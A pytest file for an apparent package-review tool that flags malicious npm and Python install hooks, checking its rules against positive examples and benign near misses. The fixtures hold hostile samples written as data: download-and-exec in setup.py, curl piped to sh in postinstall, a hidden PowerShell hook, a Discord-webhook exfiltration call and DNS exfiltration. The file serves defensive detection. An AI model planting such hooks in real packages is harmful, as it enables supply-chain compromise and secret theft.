"""The rules as data: every rule's positive example fires it and its benign near miss does not;
no rule id in the code lacks a catalogue entry; the scope fixes each hold on a small package."""

from __future__ import annotations

import ast
import json
import re
from pathlib import Path

import pytest

from hooklab.review import case_study_archive, review
from hooklab.review.package import INSTALL_STAGES, NPM_HOOKS
from hooklab.review.report import CATEGORIES, Report
from hooklab.review.rules.catalogue import BY_ID, RULES, example_files
from tests.conftest import run_cli

SRC = Path(__file__).resolve().parent.parent / "src" / "hooklab" / "review"
RULE_ID = re.compile(r"^(install|secrets|network|file|exec|output|supply)\.[a-z0-9.-]+$")


def _write(root: Path, files: dict[str, str]) -> Path:
    for name, text in example_files(files).items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    return root


def _rules(report: Report) -> set[str]:
    return {f.rule for _, f in report.findings}


@pytest.mark.parametrize("entry", RULES, ids=[r.id for r in RULES])
def test_rule_fires_on_its_positive_example_only(entry, tmp_path: Path) -> None:
    hit = review(_write(tmp_path / "positive", entry.positive))
    assert entry.id in _rules(hit), hit.findings_rows()
    found = [f for cid, f in hit.findings if f.rule == entry.id]
    assert all(cid == entry.category for cid, f in hit.findings if f.rule == entry.id)
    assert all(f.axis == entry.axis for f in found)
    quiet = review(_write(tmp_path / "benign", entry.benign))
    assert entry.id not in _rules(quiet), quiet.findings_rows()


def test_catalogue_entries_are_complete() -> None:
    assert len(BY_ID) == len(RULES)
    for r in RULES:
        assert r.category in CATEGORIES and r.axis in ("capability", "indicator"), r.id
        assert r.title and r.title_ko and r.why and r.why_ko, r.id
        assert r.positive and r.benign and r.positive != r.benign, r.id


def _literal_ids() -> set[tuple[str, str]]:
    found = set()
    for path in SRC.rglob("*.py"):
        if path.name == "catalogue.py":
            continue
        for node in ast.walk(ast.parse(path.read_text())):
            if isinstance(node, ast.Constant) and isinstance(node.value, str):
                if RULE_ID.match(node.value):
                    found.add((path.name, node.value))
    return found


def test_no_rule_id_in_code_lacks_a_catalogue_entry() -> None:
    ids = _literal_ids()
    assert len(ids) > 30  # the scan sees the rule modules
    assert {rid for _, rid in ids} - set(BY_ID) == set(), ids
    # ids built from a hook's stage: f"install.{stage}"
    for stage in (*INSTALL_STAGES, *NPM_HOOKS):
        assert f"install.{stage}" in BY_ID, stage


def test_list_rules_prints_every_rule() -> None:
    text = run_cli("review", "--list-rules")
    assert text.returncode == 0, text.stderr
    for r in RULES:
        assert r.id in text.stdout
    data = json.loads(run_cli("review", "--list-rules", "--json").stdout)
    assert [r["id"] for r in data] == [r.id for r in RULES]
    assert all(r["positive"] and r["benign"] and r["title_ko"] for r in data)


def test_findings_are_one_per_rule_and_file_with_a_count(tmp_path: Path) -> None:
    bundle = "const cp = require('child_process');\n" + "cp.execSync('ls');\n" * 500
    files = {"package.json": '{"name": "b"}', "dist/bundle.js": bundle}
    report = review(_write(tmp_path, files))
    shell = [f for _, f in report.findings if f.rule == "exec.shell"]
    assert [(f.file, f.line, f.count) for f in shell] == [("dist/bundle.js", 2, 500)]


# -- scope fixes (issue 13 item 2): each of these failed on the reviewer before them
def _npm(files: dict[str, str], name: str = "demo", **manifest: object) -> dict[str, str]:
    return {"package.json": json.dumps({"name": name, "version": "1.0.0", **manifest}), **files}


MCP = {"dependencies": {"@modelcontextprotocol/sdk": "1.0.0"}}
NET = "const https = require('https');\nhttps.get('https://dl.example.com/x');\n"


def test_prepare_is_not_install_time_for_a_registry_tarball(tmp_path: Path) -> None:
    files = _npm({"build.js": NET}, scripts={"prepare": "node build.js"})
    report = review(_write(tmp_path, files))
    assert report.level("install") == "low", report.findings_rows()
    assert not any(f.install_time for _, f in report.findings)
    assert report.verdict == "capabilities-only"


def test_setup_py_less_sdist_runs_only_its_backend(tmp_path: Path) -> None:
    files = {
        "pyproject.toml": '[build-system]\nrequires = ["hatchling"]\n'
        'build-backend = "hatchling.build"'
        '\n[project]\nname = "d"\nversion = "1"\n[project.scripts]\nd = "d.cli:main"\n',
        "d/cli.py": "import httpx\nAPI = 'https://api.example.com/v1'\n"
        "def main():\n    httpx.get(API)\n",
    }
    report = review(_write(tmp_path, files))
    assert report.category("install").findings == [], report.findings_rows()
    assert report.verdict == "capabilities-only"


def test_tests_docs_examples_and_maps_are_apart(tmp_path: Path) -> None:
    shell = "const cp = require('child_process');\ncp.execSync('rm -rf /tmp/x');\n"
    files = {
        "index.js": "module.exports = 1;\n",
        "test/run.js": shell,
        "docs/demo.js": shell,
        "examples/a.js": "eval(process.argv[2]);\n",
        "lib/x.test.js": shell,
    }
    report = review(_write(tmp_path, _npm(files)))
    assert report.overall == "low" and report.verdict == "clean", report.findings_rows()
    apart = {f.file for _, f in report.aside}
    assert apart == {"test/run.js", "docs/demo.js", "examples/a.js", "lib/x.test.js"}
    assert json.loads(report.to_json())["aside"]


def test_a_hook_in_tests_is_still_install_time(tmp_path: Path) -> None:
    files = _npm({"test/setup.js": NET}, scripts={"postinstall": "node test/setup.js"})
    report = review(_write(tmp_path, files))
    assert ("install.network", "test/setup.js") in {(f.rule, f.file) for _, f in report.findings}


def test_child_env_is_not_an_env_dump(tmp_path: Path) -> None:
    code = (
        "const { spawn } = require('child_process');\n"
        "const child = spawn('kubectl', args, {\n  cwd: dir,\n  env: process.env,\n});\n"
    )
    report = review(_write(tmp_path, _npm({"index.js": code}, **MCP)))
    assert not {"output.env-dump", "secrets.env-dump"} & _rules(report), report.findings_rows()


def test_page_dollar_eval_is_not_eval(tmp_path: Path) -> None:
    code = "const title = await page.$eval('h1', (el) => el.textContent);\nredis.eval(script);\n"
    report = review(_write(tmp_path, _npm({"index.js": code})))
    assert "exec.dynamic-code" not in _rules(report)


def test_aws_in_a_url_host_is_not_a_credential_path(tmp_path: Path) -> None:
    code = (
        "fetch('https://bedrock-runtime.us-east-1.aws.example/x');\n"
        "const c = 'console.aws.amazon.com';\n"
    )
    report = review(_write(tmp_path, _npm({"index.js": code})))
    assert not {"secrets.credential-path", "file.sensitive-path"} & _rules(report)


def test_vendor_api_with_its_own_key_is_not_exfiltration(tmp_path: Path) -> None:
    code = "const key = process.env.ACME_API_KEY;\nfetch('https://api.acme.example/v1', { key });\n"
    own = review(_write(tmp_path / "own", _npm({"index.js": code}, "acme-mcp")))
    assert "secrets.flow-to-network" not in _rules(own), own.findings_rows()
    assert "secrets.sensitive-env" in _rules(own)  # the key is still named
    other = code.replace("api.acme.example", "collect.other.example")
    sent = review(_write(tmp_path / "other", _npm({"index.js": other}, "acme-mcp")))
    assert "secrets.flow-to-network" in _rules(sent)


def test_case_study_prints_on_http_branch_are_not_stdout_pollution() -> None:
    report = review(case_study_archive("2.9.6"))
    where = {(f.file, f.line) for f in report.category("output_llm").findings}
    assert ("dist/index.js", 226) not in where and ("dist/index.js", 230) not in where
    assert not any(f.startswith("dist/utils/") for f, _ in where), where
    assert ("dist/index.js", 239) in where  # the signal handler prints on every transport


# -- near misses met in real packages (the pinned benign set): none of these is an indicator -----
PYMCP = "from mcp.server.fastmcp import FastMCP\nimport os, subprocess\nmcp = FastMCP('d')\n"
NEAR_MISSES = {
    "regexp-exec-beside-decoding-in-a-bundle": _npm(
        {"dist/app.js": "const m=/a(b)/.exec(s);" + "x;" * 200 + "const t=atob(u);\n"}
    ),
    "env-names-listed-in-a-bundled-logger": _npm(
        {"dist/cli.js": "opts = Object.keys(process.env).filter((k) => /^debug_/i.test(k));\n"},
        **MCP,
    ),
    "env-copied-for-a-child-in-a-tool": {
        "pyproject.toml": '[project]\nname = "d"\nversion = "1"\n',
        "d/__init__.py": PYMCP + "@mcp.tool()\ndef run() -> str:\n"
        "    return subprocess.run(['ls'], env=dict(os.environ), text=True).stdout\n",
    },
    "env-names-mapped-in-a-config": {
        "pyproject.toml": '[project]\nname = "d"\nversion = "1"\n',
        "d/config.py": PYMCP + "KEYS = {k.upper(): k for k in os.environ.keys()}\n",
    },
    "getattr-builtins-with-a-computed-name": {
        "pyproject.toml": '[project]\nname = "d"\nversion = "1"\n',
        "d/refs.py": "import builtins\nkind = getattr(builtins, NAME)\n",
    },
}


@pytest.mark.parametrize("files", NEAR_MISSES.values(), ids=list(NEAR_MISSES))
def test_real_package_near_misses_are_not_indicators(files, tmp_path: Path) -> None:
    report = review(_write(tmp_path, files))
    indicators = [f.rule for _, f in report.findings if f.axis == "indicator"]
    assert indicators == [], report.findings_rows()
    assert report.verdict in ("clean", "capabilities-only")


def test_npm_run_and_node_dot_are_followed_to_the_file_they_run(tmp_path: Path) -> None:
    scripts = {"postinstall": "npm run setup:native", "setup:native": "node scripts/native.js"}
    ran = review(_write(tmp_path / "run", _npm({"scripts/native.js": NET}, scripts=scripts)))
    assert ("install.network", "scripts/native.js") in {(f.rule, f.file) for _, f in ran.findings}
    dot = _npm({"lib/main.js": NET}, main="lib/main.js", scripts={"install": "node ."})
    main = review(_write(tmp_path / "dot", dot))
    assert ("install.network", "lib/main.js") in {(f.rule, f.file) for _, f in main.findings}


SETUP = "from setuptools import setup\n"
MORE_SHAPES = {
    "exec.encoded-command": _npm(
        {}, scripts={"postinstall": "powershell -WindowStyle Hidden -c ./a.ps1"}
    ),
    "supply.exfil-host": _npm(
        {"index.js": "fetch('https://discord.com/api/webhooks/123/abcDEF', {body});\n"}
    ),
    "install.download-exec": {
        "setup.py": SETUP + "import urllib.request\n"
        "exec(urllib.request.urlopen('https://x.example/p.py').read())\nsetup(name='d')\n"
    },
    "install.second-runtime": _npm(
        {"p.ts": "1;"}, scripts={"postinstall": "curl -fsSL https://deno.land/install.sh | sh"}
    ),
    "install.self-delete": _npm(
        {"setup.js": "1;"}, scripts={"postinstall": "node setup.js && rm -f setup.js"}
    ),
    "install.cmdclass-egg-info": {
        "setup.cfg": "[options]\ncmdclass =\n    egg_info = hooks.Egg\n",
        "hooks.py": "class Egg: pass\n",
    },
    "network.dns-exfil": {
        "setup.py": SETUP + "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "s.sendto(b'x', ('198.51.100.7', 53))\nsetup(name='d')\n"
    },
}


@pytest.mark.parametrize("rid", list(MORE_SHAPES))
def test_more_indicator_shapes(rid: str, tmp_path: Path) -> None:
    report = review(_write(tmp_path, MORE_SHAPES[rid]))
    assert rid in _rules(report), report.findings_rows()
    # one indicator in code that runs later is suspicious; at install time it is malicious
    expected = "suspicious" if rid == "supply.exfil-host" else "malicious"
    assert report.verdict == expected, report.verdict_line()
